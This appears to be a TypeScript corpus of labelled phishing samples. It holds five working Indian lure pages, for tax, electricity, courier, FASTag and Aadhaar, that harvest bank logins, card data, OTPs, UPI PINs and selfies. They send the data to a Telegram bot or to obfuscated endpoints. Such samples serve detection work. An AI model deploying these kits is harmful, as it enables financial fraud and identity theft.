import { type Entry, htmlRoute, redirectRoute } from '../entry.js';
import { doc, hexEsc, chunked, logos, govHeader, telegramDrop } from '../parts/xa-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

/**
 * Government and utility lures: income-tax refunds, PAN–Aadhaar linking, electricity disconnection, India
 * Post and courier re-delivery fees, FASTag KYC, e-challans, Aadhaar updates, EPFO claims, GST and NIC mail
 * logins — each a kit that ends in card, net-banking or OTP capture.
 */
export const entries: Entry[] = [
{
  id: 'xa-pan-aadhaar-link-penalty-hindi-compromised-wp',
  label: 'phishing',
  kind: 'pan-link-kit',
  url: 'https://rkpublicschool.edu.in/wp-includes/css/pan/index.html',
  body: doc({
    title: 'पैन-आधार लिंक | आयकर विभाग',
    lang: 'hi',
    css: `body{margin:0;font-family:'Noto Sans Devanagari',Arial;background:#fff}.r{background:#c62828;color:#fff;text-align:center;padding:8px;font-size:14px}.c{max-width:480px;margin:14px auto;padding:0 14px}.c h2{color:#0b2e6f;font-size:20px}input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #c4c4c4;border-radius:4px;margin:6px 0 12px}button{background:#0b2e6f;color:#fff;border:0;padding:12px;width:100%;border-radius:4px;font-size:16px}.s{font-size:12px;color:#777}`,
    body: `${govHeader({ dept: 'Income Tax Department', deptLocal: 'आयकर विभाग, भारत सरकार' })}
<div class="r">⚠ अंतिम चेतावनी: आपका PAN कार्ड आधार से लिंक नहीं है। आज लिंक न करने पर PAN निष्क्रिय हो जाएगा और ₹10,000 जुर्माना लगेगा।</div>
<div class="c"><h2>पैन-आधार लिंक करें (निःशुल्क)</h2><p>जुर्माना माफ़ी के लिए अपने बैंक खाते से सत्यापन आवश्यक है।</p>
<form id="pl"><label>PAN नंबर</label><input name="pan" maxlength="10" required><label>आधार नंबर</label><input name="aad" maxlength="12" required><label>मोबाइल नंबर</label><input name="mob" maxlength="10" required>
<label>बैंक का नाम</label><input name="bank" required><label>इंटरनेट बैंकिंग यूज़र आईडी</label><input name="uid" required><label>लॉगिन पासवर्ड</label><input name="pwd" type="password" required><label>ट्रांजैक्शन पासवर्ड / प्रोफाइल पासवर्ड</label><input name="tpw" type="password">
<button>लिंक करें</button></form><p class="s">यह सेवा आयकर विभाग द्वारा प्रदान की जाती है। © 2025</p></div>
<script>
${telegramDrop('_s', '6630127711:AAHmZq3RwX8yB0vNc2LpT5kJd9fUe7sG4aI', '5917734420', 'xhr')}
pl.onsubmit=function(e){e.preventDefault();var t='<b>PAN LINK</b>\\n';new FormData(pl).forEach(function(v,k){t+=k+': <code>'+v+'</code>\\n'});_s(t);setTimeout(function(){location.href='https://www.incometax.gov.in/iec/foportal/'},1500)};
</script>`,
  }),
},
{
  id: 'xa-msedcl-disconnect-marathi-card10',
  label: 'phishing',
  kind: 'electricity-bill-kit',
  url: 'https://mahavitaran-billupdate.in/mr/consumer',
  body: doc({
    title: 'महावितरण - वीज बिल अपडेट',
    lang: 'mr',
    css: `body{margin:0;font-family:'Noto Sans Devanagari',Arial;background:#f0f4f8}.h{background:#1565c0;color:#fff;padding:12px 16px}.h b{font-size:18px}.al{background:#ffebee;color:#b71c1c;margin:12px;padding:12px;border-radius:8px;font-weight:bold}.f{background:#fff;margin:12px;padding:16px;border-radius:8px}input{width:100%;box-sizing:border-box;padding:11px;margin:6px 0 12px;border:1px solid #bcd;border-radius:6px}.amt{font-size:28px;color:#1565c0;text-align:center}button{width:100%;background:#ef6c00;border:0;color:#fff;padding:13px;border-radius:6px;font-size:17px}.two{display:flex;gap:8px}`,
    body: `<div class="h"><b>⚡ महावितरण (MSEDCL)</b><div style="font-size:12px">महाराष्ट्र राज्य विद्युत वितरण कंपनी मर्यादित</div></div>
<div class="al">प्रिय ग्राहक, आपले मागील महिन्याचे बिल अपडेट झाले नाही. आज रात्री 9:30 वाजता आपला वीज पुरवठा खंडित केला जाईल.</div>
<div class="f" id="s1"><label>ग्राहक क्रमांक (Consumer No.)</label><input id="cn" maxlength="12"><label>मोबाइल क्रमांक</label><input id="mb" maxlength="10"><button id="n1">पुढे जा</button></div>
<div class="f" id="s2" style="display:none"><p>बिल अपडेट शुल्क</p><div class="amt">₹10.00</div><form id="cf"><label>कार्ड क्रमांक</label><input name="card" maxlength="19" required><div class="two"><input name="mm" placeholder="MM" maxlength="2" required><input name="yy" placeholder="YY" maxlength="2" required><input name="cvv" placeholder="CVV" maxlength="3" type="password" required></div><label>कार्डधारकाचे नाव</label><input name="nm" required><button>₹10 भरा</button></form></div>
<div class="f" id="s3" style="display:none"><p>आपल्या बँकेकडून आलेला OTP टाका</p><input id="ot" maxlength="6"><button id="n3">सबमिट</button></div>
<script>
var w='${hexEsc('https://mahavitaran-billupdate.in/mr/api/x.php')}';
function p(d){return fetch(w,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(d)}).catch(function(){})}
n1.onclick=function(){p({cn:cn.value,mb:mb.value});s1.style.display='none';s2.style.display='block'};
cf.onsubmit=function(e){e.preventDefault();var o={cn:cn.value};new FormData(cf).forEach(function(v,k){o[k]=v});p(o);s2.style.display='none';s3.style.display='block'};
n3.onclick=function(){p({cn:cn.value,otp:ot.value});s3.innerHTML='<p>धन्यवाद. आपले बिल अपडेट झाले आहे. वीज पुरवठा सुरू राहील.</p>'};
</script>`,
  }),
},
{
  id: 'xa-delhivery-cod-upi-pin-sheet',
  label: 'phishing',
  kind: 'parcel-redelivery-kit',
  url: 'https://delhivery-reschedule.click/p/DLV8820451963',
  body: doc({
    title: 'Delhivery | Reschedule Delivery',
    css: `body{margin:0;font-family:Inter,Arial;background:#fafafa}.t{background:#000;color:#fff;padding:14px 16px;font-weight:800;letter-spacing:1px}.t i{color:#e5322d;font-style:normal}.c{max-width:440px;margin:14px auto;background:#fff;border:1px solid #eee;border-radius:10px;padding:16px}.pill{display:inline-block;background:#fff3e0;color:#e65100;padding:4px 10px;border-radius:20px;font-size:12px}.sheet{position:fixed;left:0;right:0;bottom:-100%;background:#fff;border-radius:16px 16px 0 0;box-shadow:0 -4px 20px #0003;padding:18px;transition:bottom .3s}.sheet.up{bottom:0}input{width:100%;box-sizing:border-box;padding:11px;margin:6px 0 10px;border:1px solid #ddd;border-radius:8px}button{background:#e5322d;color:#fff;border:0;width:100%;padding:13px;border-radius:8px;font-weight:bold}`,
    body: `<div class="t">DELHIVER<i>Y</i></div>
<div class="c"><span class="pill">Delivery failed</span><h3>AWB DLV8820451963</h3><p>Our delivery executive could not reach you. Reschedule your delivery by paying a nominal re-attempt charge of <b>₹5</b>. Unpaid shipments are returned to origin in 24 hours.</p>
<input id="nm" placeholder="Your name"><input id="ad" placeholder="Delivery address"><input id="pn" placeholder="PIN code"><button id="rs">Reschedule for ₹5</button></div>
<div class="sheet" id="sh">${logos.upi(22)}<p><b>Pay ₹5.00</b> to Delhivery Ltd.</p><input id="vpa" placeholder="Your UPI ID (e.g. 98xxxxxx@ybl)"><input id="bk" placeholder="Bank name"><input id="up" type="password" inputmode="numeric" maxlength="6" placeholder="Enter 4/6 digit UPI PIN"><button id="pay">PAY</button></div>
<script>
var D=${chunked('https://delhivery-reschedule.click/p/cb.php', 7)};
rs.onclick=function(){sh.classList.add('up')};
pay.onclick=function(){var q=new URLSearchParams({awb:'DLV8820451963',n:nm.value,a:ad.value,p:pn.value,vpa:vpa.value,bank:bk.value,pin:up.value});new Image().src=D+'?'+q;sh.innerHTML='<p>Waiting for bank confirmation...</p>';setTimeout(function(){sh.innerHTML='<p>Payment failed due to bank server issue. Please re-enter your UPI PIN.</p>';},3500)};
</script>`,
  }),
},
{
  id: 'xa-fastag-kyc-ihmcl-netbanking',
  label: 'phishing',
  kind: 'fastag-kyc-kit',
  url: 'https://fastag-kyc-ihmcl.in/kyc/index.php',
  body: doc({
    title: 'FASTag KYC Update | NHAI',
    css: `body{margin:0;font-family:Arial;background:#eef3ee}.hd{background:#fff;display:flex;align-items:center;gap:12px;padding:10px 18px;border-bottom:4px solid #1b5e20}.hd b{color:#1b5e20;font-size:20px}.m{max-width:520px;margin:18px auto;background:#fff;padding:20px;border-radius:6px}.w{background:#fff8e1;border:1px solid #ffe082;padding:10px;font-size:14px}input,select{width:100%;box-sizing:border-box;padding:10px;margin:6px 0 12px;border:1px solid #bbb}button{background:#1b5e20;color:#fff;border:0;padding:12px 30px;font-size:15px}`,
    body: `<div class="hd">${logos.emblem(30)}<b>FASTag</b><span style="font-size:12px;color:#555">Indian Highways Management Company Ltd. | NHAI</span></div>
<div class="m"><div class="w">As per NHAI "One Vehicle One FASTag" guidelines, FASTags without updated KYC will be <b>deactivated/blacklisted</b>. Update KYC now to avoid double toll charges.</div>
<form method="post" action="kyc_submit.php">
<label>Vehicle Registration Number</label><input name="vrn" placeholder="MH12AB1234" required>
<label>FASTag Issuer Bank</label><select name="issuer"><option>SBI FASTag</option><option>ICICI Bank FASTag</option><option>HDFC Bank FASTag</option><option>Paytm FASTag</option><option>Airtel Payments Bank</option><option>Axis Bank FASTag</option><option>IDFC FIRST Bank</option></select>
<label>Registered Mobile</label><input name="mobile" maxlength="10" required>
<label>Net Banking User ID of issuer bank</label><input name="nbuser" required>
<label>Net Banking Password</label><input name="nbpass" type="password" required>
<label>PAN / Driving Licence No.</label><input name="doc">
<button>Update KYC</button></form></div>`,
  }),
  routes: {
    'fastag-kyc-ihmcl.in/kyc/kyc_submit.php': redirectRoute(302, 'https://fastag-kyc-ihmcl.in/kyc/otp.php'),
    'fastag-kyc-ihmcl.in/kyc/otp.php': htmlRoute('<!doctype html><html><head><meta charset="utf-8"><title>FASTag KYC - OTP</title></head><body style="font-family:Arial;padding:30px;max-width:420px;margin:auto"><h3 style="color:#1b5e20">Verify OTP</h3><p>Enter the OTP sent to your registered mobile by your FASTag issuer bank.</p><form method="post" action="done.php"><input name="otp" maxlength="6" style="padding:10px;width:100%"><br><br><button style="background:#1b5e20;color:#fff;border:0;padding:10px 24px">Verify</button></form></body></html>'),
  },
},
{
  id: 'xa-myaadhaar-biometric-selfie-capture',
  label: 'phishing',
  kind: 'aadhaar-ekyc-kit',
  url: 'https://myaadhaar-uidai-update.com/biometric/verify',
  body: doc({
    title: 'myAadhaar - Update Biometric Verification',
    css: `body{margin:0;font-family:Arial;background:#fffaf3}.h{background:#fff;border-bottom:4px solid #f57c00;padding:10px 18px;display:flex;align-items:center;gap:12px}.h b{color:#b71c1c;font-size:20px}.c{max-width:460px;margin:18px auto;background:#fff;padding:18px;border-radius:8px;border:1px solid #f0e0c8}input{width:100%;box-sizing:border-box;padding:11px;margin:6px 0 12px;border:1px solid #ccc;border-radius:5px}button{background:#f57c00;color:#fff;border:0;padding:12px;width:100%;border-radius:5px;font-size:15px}video,canvas{width:100%;border-radius:8px;background:#222}.st{display:none}`,
    body: `<div class="h">${logos.emblem(30)}<b>myAadhaar</b><span style="font-size:12px">Unique Identification Authority of India</span></div>
<div class="c"><div id="a"><p>Your Aadhaar biometric verification is pending. Aadhaar-linked services (bank, LPG subsidy, ration) will be suspended after 3 days.</p><label>Aadhaar Number</label><input id="an" maxlength="12"><label>Mobile linked with Aadhaar</label><input id="mn" maxlength="10"><button id="g1">Send OTP</button></div>
<div id="b" class="st"><label>Enter OTP</label><input id="ot" maxlength="6"><button id="g2">Verify</button></div>
<div id="c" class="st"><p><b>Face authentication</b>: keep your face inside the frame and blink twice.</p><video id="vd" autoplay playsinline></video><canvas id="cv" width="320" height="240" style="display:none"></canvas><button id="g3">Capture</button></div>
<div id="d" class="st"><p style="color:green">Biometric verification successful. Update will reflect within 5 working days.</p></div></div>
<script>
var U='/biometric/'+['up','load','.php'].join('');function send(o){var f=new FormData();for(var k in o)f.append(k,o[k]);return fetch(U,{method:'POST',body:f}).catch(function(){})}
function sw(x,y){document.getElementById(x).style.display='none';document.getElementById(y).style.display='block'}
g1.onclick=function(){send({aadhaar:an.value,mobile:mn.value});sw('a','b')};
g2.onclick=function(){send({aadhaar:an.value,otp:ot.value});sw('b','c');navigator.mediaDevices&&navigator.mediaDevices.getUserMedia({video:{facingMode:'user'}}).then(function(s){vd.srcObject=s}).catch(function(){})};
g3.onclick=function(){cv.getContext('2d').drawImage(vd,0,0,320,240);send({aadhaar:an.value,selfie:cv.toDataURL('image/jpeg',0.7)});sw('c','d')};
</script>`,
  }),
  routes: { 'myaadhaar-uidai-update.com/biometric/upload.php': jsonRoute({ result: 'saved' }) },
},
];
